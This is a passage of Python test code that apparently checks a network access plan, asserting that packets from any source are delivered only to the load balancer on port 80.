                path = decide(plan, Packet(source, address, port, time=now), {})
                shop = path.reached in plan.balancers or path.onward is not None
                assert not path.delivered or (shop and port == 80), (
                    f"Somebody at {source} reaches port {port} of {path.reached} at {address}: only "
                    "the load balancer is for everybody."
                )
